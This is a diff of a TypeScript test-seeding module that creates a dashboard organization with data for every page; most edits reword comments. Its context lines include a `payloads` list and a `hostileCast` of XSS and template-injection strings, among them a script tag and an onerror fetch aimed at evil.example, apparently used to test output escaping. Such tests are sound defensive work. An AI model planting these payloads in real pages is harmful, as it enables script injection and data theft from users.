@@ -1,4 +1,4 @@
-/** An organization that has something on every page of the dashboard, and the addresses of all its pages. */
+/** Creates an organization with data for every page of the dashboard, and lists the addresses of all its pages. */
 import {
   ActionStore,
   addView,
@@ -31,12 +31,12 @@ import { attachedIssuer } from "./dashboardServer.ts"
 import { sealPlan } from "./experiments.ts"
 import { seedMember } from "./people.ts"
 
-/** What an organization of the dashboard is about. */
+/** The names and texts in an organization of the dashboard. */
 export interface Cast {
   readonly brand: string
   readonly competitors: ReadonlyArray<string>
   readonly keywords: ReadonlyArray<string>
-  /** Stands in each answer. */
+  /** Text that every answer contains. */
   readonly text: string
   readonly simulated: boolean
 }
@@ -51,7 +51,7 @@ export const plainCast: Cast = {
 
 export const simulatedCast: Cast = { ...plainCast, simulated: true }
 
-/** Elements, attributes and addresses that would run or load something in a page that trusts them. */
+/** Elements, attributes and addresses that would run or load something if a page trusted them. */
 const payloads = [
   `<script src="https://evil.example/a.js"></script>`,
   `"><img src="https://evil.example/b.png" onerror="fetch('https://evil.example/c')">`,
@@ -68,7 +68,7 @@ const payloads = [
   `{{constructor.constructor("console.log(1)")()}} \${console.log(1)} <%= 1 %>`
 ]
 
-/** Names and texts that break out of markup, turn the direction of writing, or have nowhere to break a line. */
+/** Names and texts that try to break out of markup, change the direction of writing, or cannot be wrapped. */
 export const hostileCast: Cast = {
   brand: "\"><img src=x onerror=console.log(1)>",
   competitors: ["</script><b>Globex", `Ampersand & "Sons" ${"w".repeat(80)}`],
@@ -83,7 +83,10 @@ export const hostileCast: Cast = {
 
 const dayMs = 86_400_000
 
-/** A scan of some days ago; `answer` is null for a question that fails, undefined for one that is not asked yet. */
+/**
+ * Creates a scan of some days ago; `answer` is null for a question that fails, undefined for a question that was not
+ * asked yet.
+ */
 const seedAsked = Effect.fnUntraced(function*(
   organizationId: OrganizationId,
   days: number,
@@ -123,7 +126,8 @@ const logOf = (site: string) => {
 }
 
 /**
- * Creates it with everything that its pages show: `running` has answers and open questions, `failed` has none at all.
+ * Creates the organization with everything that its pages show: scan `running` has answers and open questions, scan
+ * `failed` has no answers.
  */
 export const seedScreens = Effect.fnUntraced(function*(cast: Cast, plan: "free" | "pro" | "enterprise" = "enterprise") {
   const { brand, competitors, keywords, text } = cast
@@ -164,7 +168,7 @@ export const seedScreens = Effect.fnUntraced(function*(cast: Cast, plan: "free" 
     id,
     [
       { field: "name" as const, value: [brand], source: text.slice(0, 60), updatedAt: null },
-      // What the answers contradict
+      // Facts that the answers contradict
       { field: "founding_date" as const, value: ["1998-04"], source: null, updatedAt: null }
     ],
     { source: "a test" }
@@ -201,7 +205,7 @@ export const seedScreens = Effect.fnUntraced(function*(cast: Cast, plan: "free" 
 })
 export type Screens = Effect.Success<ReturnType<typeof seedScreens>>
 
-/** Ids by what a path names before `:id`; values of other parameters by both. */
+/** Ids by the segment of the path before `:id`; for other parameters, by the segment and the parameter. */
 const listIds = Effect.fnUntraced(function*(screens: Screens) {
   const { completed, endpointId, experiments, failed, keyId, memberId, organizationId, running } = screens
   const set = (yield* (yield* TrackedSetStore).current(organizationId))!
@@ -229,7 +233,7 @@ const listIds = Effect.fnUntraced(function*(screens: Screens) {
   return ids
 })
 
-/** Pages that show nothing without a choice. */
+/** Queries for pages that show nothing until something is selected. */
 const queries: Readonly<Record<string, (screens: Screens) => string>> = {
   "/account/identities/remove": () => `?issuer=${encodeURIComponent(attachedIssuer)}`,
   "/o/:slug/competitors/suggestions/accept": () => "?name=Initrode",
@@ -244,7 +248,7 @@ interface Route {
   readonly least: string
 }
 
-/** The address of every page that the table of routes has for people of an organization. */
+/** The addresses of all pages that the routes define for members of an organization. */
 export const listScreens = Effect.fnUntraced(function*(screens: Screens, routes: ReadonlyArray<Route>) {
   const ids = yield* listIds(screens)
   const fill = (path: string): ReadonlyArray<string> => {
